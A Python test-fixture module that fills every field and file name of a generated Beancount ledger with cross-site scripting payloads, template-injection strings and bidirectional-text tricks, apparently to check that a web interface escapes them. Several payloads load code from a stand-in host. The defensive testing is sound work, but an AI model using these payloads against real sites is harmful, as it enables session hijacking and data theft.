"""What somebody may write where words are expected so that a page runs it, and a ledger full of that.

Each text of `RUNNING` does something as soon as a page takes it for markup in one place or another: between
tags, in an attribute, in a link, in a script, in a style. `tests/browser/test_the_probe.py` shows it of every
one. `TELLING` runs nothing; taken for a template, a format or a direction of writing it would change what a
page says.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.books_on_disk import write

if TYPE_CHECKING:
    import pathlib
    from collections.abc import Iterator, Sequence

#: What a page calls that runs a text; `tests.browser.probe` listens to it.
CALL = "xss()"

#: What the arithmetic of templates in the corpus comes to.
PRODUCT = "9801547"

RUNNING = (
    # Elements
    "<script>xss()</script>",
    "</script><script>xss()</script>",
    "<ScRiPt>xss()</sCrIpT>",
    "<script src=//xss.invalid/x.js></script>",
    "<script\n>xss()</script\n>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<img src=x onerror=xss()>",
    '<img src="x" onerror="xss()">',
    "<img src='x' onerror='xss()'>",
    '<IMG/SRC="x"/ONERROR=xss()>',
    "<img src=x onerror=&#120;ss()>",
    "<img srcset=//xss.invalid/pixel.png>",
    "<svg onload=xss()>",
    "<svg/onload=xss()//",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:xss()"><text y=20>vendor</text></a></svg>',
    "<body onload=xss()><img src=x onerror=xss()>",
    "<details open ontoggle=xss()>more</details>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()></audio>",
    "<input autofocus onfocus=xss()>",
    "<iframe src=javascript:xss()></iframe>",
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    "<object data=//xss.invalid/x></object>",
    "<embed src=//xss.invalid/x>",
    "<base href=//xss.invalid/>",
    "<meta http-equiv=refresh content='0;url=//xss.invalid/'>",
    "<link rel=stylesheet href=//xss.invalid/x.css>",
    "<form action=javascript:xss()><button>Pay</button></form>",
    "<a href=javascript:xss()>statement</a>",
    # Out of what stands around it
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    '" autofocus onfocus="xss()',
    "' autofocus onfocus='xss()",
    '" onmouseover=xss() style="position:fixed;inset:0',
    "--><img src=x onerror=xss()><!--",
    "]]><img src=x onerror=xss()>",
    "</title></textarea></noscript></xmp><img src=x onerror=xss()>",
    "</style><img src=x onerror=xss()>",
    "</td></tr></table><img src=x onerror=xss()>",
    '";xss();//',
    "';xss();//",
    "`;xss();//",
    '\\";xss();//',
    "${xss()}",
    # Styles
    "</style><style>*{background:url(//xss.invalid/x.png)}</style>",
    '" style="background:url(//xss.invalid/y.png)',
    "@import '//xss.invalid/y.css';",
    # Addresses
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "java\tscript:xss()",
    " javascript:xss()",
    "javascript://vendor.invalid/%0Axss()",
    "vbscript:xss()",
    "data:text/html,<script>parent.xss()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=",
    "//xss.invalid/login",
    # Spaces and letters that some parsers take for others
    "<img\u000csrc=x\u000conerror=xss()>",
    "\ufeff<script>xss()</script>",
    "<img src=x onerror=\u2028xss()>",
)

TELLING = (
    "{{ 1337*7331 }}",
    "{% for x in [1337*7331] %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__name__ or 1337*7331 }}{{ 1337*7331 }}",
    "{# gone #}{{ 1337*7331 }}",
    "%(day)s %(amount)s %s %d %",
    "{0} {amount} {0.__class__}",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "\u202egnp.exe\u202c 450.00",
    "\u2066450.00\u2069\u200b GBP",
    "A\u0338\u0301\u0301\u0301\u0301me",
)

CORPUS = RUNNING + TELLING

#: Ids that are allowed and mean something to those who read them as a path or as a name of an object.
IDS = ("constructor", "toString", "hasOwnProperty", "javascript", "script/alert.1", "a.b-c_d/e")

#: Of each page about one thing, the one that all texts are about.
ALL = {"case": "RC-ALL", "credit": "all/C", "refund": "VR-ALL", "vendor": "all", "order": "o-all"}

#: Lines of writing turned round, and letters without width: no page may pass them on.
TURNED = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff"

#: What stands for a slash in the name of a file.
_SLASH = "\u2215"

_HEADER = """\
option "operating_currency" "GBP"
option "title" {title}
plugin "beancount_refunds"
2026-01-01 custom "fava-extension" "beancount_refunds.fava_ext" "{{'allow_write': True}}"
2020-01-01 open Assets:Bank
2020-01-01 open Assets:Clearing
2020-01-01 open Assets:Credits:\uff33cript-\u00dcber
2020-01-01 open Expenses:Purchases
2020-01-01 custom "refund-policy" "clearing_account" Assets:Clearing
2020-01-01 custom "refund-policy" "receipt_account" Assets:Bank
"""

#: A chain in which everything that may hold words holds one text. `$` is the text, `@` its number.
_CHAIN = """\
2020-01-01 custom "refund-policy" "reason_code" $ $
2020-01-01 custom "refund-policy" "actor" $ $
2020-01-01 custom "refund-policy" "role" $ $
2020-01-01 custom "vendor" "v@" $ Assets:Credits:\uff33cript-\u00dcber
  aliases: $
  country: $
  vat_id: $
  iban: $
  note: $
2026-01-10 custom "order" "o@" "v@" 900.00 GBP
  by: $
2026-01-12 * $ $
  more: $
  Assets:Credits:\uff33cript-\u00dcber  -900.00 GBP
    bill_id: $
    order_id: "o@"
    vendor_id: "v@"
  Expenses:Purchases  900.00 GBP
2026-01-20 custom "refund-case" "RC-@" 600.00 GBP
  vendor_id: "v@"
  order_id: "o@"
  reason: $
  owner: $
  by: $
  note: $
  evidence: $
  external_id: $
2026-01-21 note Assets:Bank $ ^RC-@ #tag-@
2026-01-22 document Assets:Bank $DOCUMENT ^RC-@ ^v@/C
2026-01-25 custom "case-event" "RC-@" "agreed"
  by: $
  at: "2026-01-25T10:14:00+00:00"
  reason: $
  note: $
2026-02-02 custom "vendor-credit" "v@/C" 550.00 GBP Expenses:Purchases
  case_id: "RC-@"
  order_id: "o@"
  number: $
  bill_id: $
  reason: $
  by: $
  note: $
2026-02-20 custom "vendor-refund" "VR-@" 300.00 GBP "v@/C"
  bank_transaction_ref: $
  gateway_transaction_id: $
  external_id: $
  by: $
  note: $
  reason: $
2026-02-20 custom "approval" "VR-@" 300.00 GBP
  by: $
  note: $
2026-02-20 * $ $ ^RC-@ #tag-@
  bank_transaction_ref: $
  counterparty: $
  counterparty_iban: $
  end_to_end_id: $
  references: $
  statement_file: $
  Assets:Bank       300.00 GBP
  Assets:Clearing  -300.00 GBP
2026-02-23 custom "vendor-refund" "VP-@" @.00 GBP "v@/C"
  by: $
  note: $
2026-02-24 * $ $
  bank_transaction_ref: $OPEN
  counterparty: $
  end_to_end_id: $
  references: $
  Assets:Bank       @.00 GBP
  Assets:Clearing  -@.00 GBP
2026-02-25 custom "credit-write-off" "WO-@" "v@/C" 1.00 GBP Expenses:Purchases
  reason: $
  by: $
2026-02-25 custom "credit-application" "AP-@" "v@/C" 1.00 GBP $
  by: $
2026-02-26 custom "reversal" "WO-@"
  reason: $
  by: $
2026-03-02 custom "exception" "RECEIPT_UNMATCHED" $OPEN
  owner: $
  reason: $
  at: "2026-03-02T09:00:00+00:00"
  until: 2026-03-31
  note: $
"""

#: One case that all texts speak of, and one of each other thing whose words are all of them at once.
_ALL = """\
2020-01-01 custom "vendor" "all" $ Assets:Credits:\uff33cript-\u00dcber
2026-01-20 custom "refund-case" "RC-ALL" 900.00 GBP
  vendor_id: "all"
  order_id: "o-all"
  reason: $0
  owner: $
  note: $
2026-02-02 custom "vendor-credit" "all/C" 900.00 GBP Expenses:Purchases
  case_id: "RC-ALL"
  order_id: "o-all"
  number: $
  note: $
2026-02-20 custom "vendor-refund" "VR-ALL" 300.00 GBP "all/C"
  bank_transaction_ref: $
  by: $
  note: $
2026-02-20 * $ $
  bank_transaction_ref: $
  Assets:Bank       300.00 GBP
  Assets:Clearing  -300.00 GBP
"""

#: Refused for what they say: the words come back in the message.
_FAULTY = """\
2026-02-02 custom "vendor-credit" $ 5.00 GBP Expenses:Purchases
2026-02-02 custom "refund-policy" $ "1"
2026-02-03 custom "vendor-refund" "VF-@" 5.00 GBP $
2026-02-26 custom "case-event" "RC-@" $
  by: $
  at: $
  reason: $
  note: $
"""


def quoted(text: str) -> str:
    """A text as Beancount writes it."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'


def books(folder: pathlib.Path, texts: Sequence[str] = CORPUS, *, faulty: bool = False) -> pathlib.Path:
    """The texts in every field of a ledger, in a file whose name is of their kind.

    ``faulty`` adds directives that are refused for what they say. Pages may write to it.
    """
    written = "".join(_written(folder, texts, faulty=faulty))
    included = folder / 'x" onerror="xss() <img src=x onerror=xss()>.beancount'
    write(folder, written, included.name)
    header = _HEADER.format(title=quoted(RUNNING[0]))
    return write(folder, f"{header}include {quoted(included.name)}\n")


def _written(folder: pathlib.Path, texts: Sequence[str], *, faulty: bool) -> Iterator[str]:
    everything = " ".join(texts)
    for number, text in enumerate(texts, 1):
        document = folder / f"{number} {text.replace('/', _SLASH)}{('.png', '.pdf')[number % 2]}"
        document.touch()
        chain = _CHAIN + (_FAULTY if faulty else "")
        chain = chain.replace("$DOCUMENT", "\0").replace("$OPEN", "\1").replace("@", str(number))
        chain = chain.replace("$", quoted(text))
        yield chain.replace("\0", quoted(document.name)).replace("\1", quoted(f"{text} open"))
        yield f"2026-01-25 note Assets:Bank {quoted(text)} ^RC-ALL ^all/C ^VR-ALL\n"
        yield (
            f'2026-01-25 custom "case-event" "RC-ALL" "chased"\n  by: {quoted(text)}\n'
            f'  at: "2026-01-25T10:{number % 60:02}:00"\n  reason: {quoted(text)}\n  note: {quoted(text)}\n'
        )
        yield f"2026-01-26 document Assets:Bank {quoted(document.name)} ^RC-ALL ^VR-ALL\n"
    yield _ALL.replace("$0", quoted(texts[0])).replace("$", quoted(everything))
    vendors = " ".join(f'"v{number}" 9.00 GBP' for number, __ in enumerate(texts, 1))
    yield f'2026-01-10 custom "order" "o-all" "all" 900.00 GBP {vendors}\n'
    for id_ in IDS:
        yield f'2020-01-01 custom "vendor" "{id_}" "{id_}" Assets:Credits:\uff33cript-\u00dcber\n'
        yield f'2026-02-02 custom "vendor-credit" "{id_}/1" 5.00 GBP Expenses:Purchases\n'
